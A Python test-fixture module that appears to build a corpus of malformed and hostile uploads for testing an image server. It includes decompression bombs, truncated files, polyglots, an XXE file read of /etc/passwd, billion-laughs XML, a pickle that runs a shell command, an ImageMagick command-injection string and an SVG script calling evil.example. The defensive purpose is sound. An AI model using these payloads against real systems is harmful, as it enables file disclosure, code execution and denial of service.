"""Files that are no images, or worse: small on the wire and huge in memory, cut off, two things at once."""

import io
import struct
import zipfile
import zlib

import numpy as np
from PIL import Image
from servers import encoded


def noise():
    return Image.fromarray(np.random.default_rng(0).integers(0, 255, (64, 64, 3), dtype=np.uint8))


def cut(kind, share=0.6, **options):
    whole = encoded(noise(), kind, **options)
    return whole[: int(len(whole) * share)]


def chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width, height, *chunks, data=b""):
    """A PNG that says that it is so large, whatever it holds."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = data or zlib.compress(b"\0" * 64)
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def gif(width, height):
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return b"GIF89a" + screen + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\0;"


def webp(width, height):
    canvas = struct.pack("<I", 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    frame = encoded(Image.new("RGB", (4, 4)), "WEBP", lossless=True)[12:]
    body = b"WEBPVP8X" + struct.pack("<I", len(canvas)) + canvas + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def tiff(width, height):
    """One strip that says that it is everything."""
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1)]
    tags += [(278, 4, height), (279, 4, 2**31 - 1)]
    directory = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + directory + b"\0\0\0\0"


def bmp(width, height):
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 16, 0, 0, 54) + info + b"\0" * 16


def jpeg(width, height):
    whole = bytearray(encoded(noise(), "JPEG"))
    start = whole.index(b"\xff\xc0") + 5
    whole[start : start + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def zipped(**files):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def long_exif():
    """A JPEG whose metadata points to itself and far outside."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x0112, 3, 2**31 - 1, 2**32 - 1)
    exif = b"Exif\0\0II*\0" + struct.pack("<IH", 8, 2) + entry + struct.pack("<I", 8)
    whole = encoded(noise(), "JPEG")
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + whole[2 : len(whole) // 2]


KINDS = {"JPEG": {}, "PNG": {}, "GIF": {}, "WEBP": {"lossless": True}, "TIFF": {}, "BMP": {}, "PPM": {}}
CUT = {f"{kind} cut off": cut(kind, **options) for kind, options in KINDS.items()} | {
    "JPEG2000 cut to its head": cut("JPEG2000", 0.02),
    "PNG cut in its head": cut("PNG", 0.002),
    "JPEG of its first two bytes": b"\xff\xd8",
    "PNG with a wrong checksum": png(8, 8)[:20] + b"\xff" + png(8, 8)[21:],
    "PNG with broken data": png(8, 8, data=b"\x78\x9c" + b"\xff" * 40),
    "JPEG with metadata in a circle, cut off": long_exif(),
    "TIFF with a directory that is its own next": b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
}
BOMBS = {
    "PNG of two thousand million squared": png(2**31 - 1, 2**31 - 1),
    "PNG of 30,000 squared": png(30_000, 30_000),
    "PNG that really has all its pixels": encoded(Image.new("1", (8000, 8000)), "PNG"),
    "PNG with a text of 40 megabytes": png(
        8, 8, chunk(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 40_000_000, 1)), data=zlib.compress(b"\0" * 200)
    ),
    "GIF of 65,535 squared": gif(65_535, 65_535),
    "WEBP of 16,384 squared": webp(16_384, 16_384),
    "TIFF of a million squared": tiff(1_000_000, 1_000_000),
    "TIFF of 5,000 squared without data": tiff(5_000, 5_000),
    "BMP of two thousand million squared": bmp(2**31 - 1, 2**31 - 1),
    "BMP of a negative height": bmp(30_000, -(2**31)),
    "JPEG of 65,500 squared": jpeg(65_500, 65_500),
    "PPM of a thousand million squared": b"P6 999999999 999999999 255\n",
    "PPM with a number of a thousand digits": b"P6 " + b"9" * 1000 + b" 1 255\n",
    "a thousand million pixels in a row": png(1_000_000_000, 1),
    "PNG that is a strip of one pixel by many": encoded(Image.new("1", (1, 900_000)), "PNG"),
    "PNG without any pixels": png(0, 0),
}
LAUGHS = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 12))
OTHERS = {
    "nothing": b"",
    "one byte": b"\x89",
    "zeros": b"\0" * 5000,
    "a zip archive": zipped(a="x" * 100),
    "a zip bomb": zipped(a=b"\0" * 5_000_000),
    "a PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "a program of Windows": b"MZ\x90\0" + b"\0" * 200 + b"PE\0\0",
    "a program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "HTML": b"<!doctype html><script>alert(1)</script>",
    "SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>',
    "SVG that reads a file": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
    "XML that expands for ever": f'<!DOCTYPE s [<!ENTITY l0 "ha">{LAUGHS}]><s>&l11;</s>'.encode(),
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n",
    "a text for ImageMagick": b"push graphic-context\nfill 'url(https://evil.example/x.png\"|ls \"-la)'\n",
    "a pickle": b"cos\nsystem\n(S'touch /tmp/pwned'\ntR.",
    "a film": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 100,
    "FLIF, ICO, PSD": b"8BPS\0\x01" + b"\0" * 100,
    "a playlist": b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nfile:///etc/passwd\n",
    "GIF and script in one": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
    "PDF that ends as an image": b"%PDF-1.4\n" + encoded(noise(), "JPEG"),
    "random bytes": np.random.default_rng(1).bytes(3000),
}
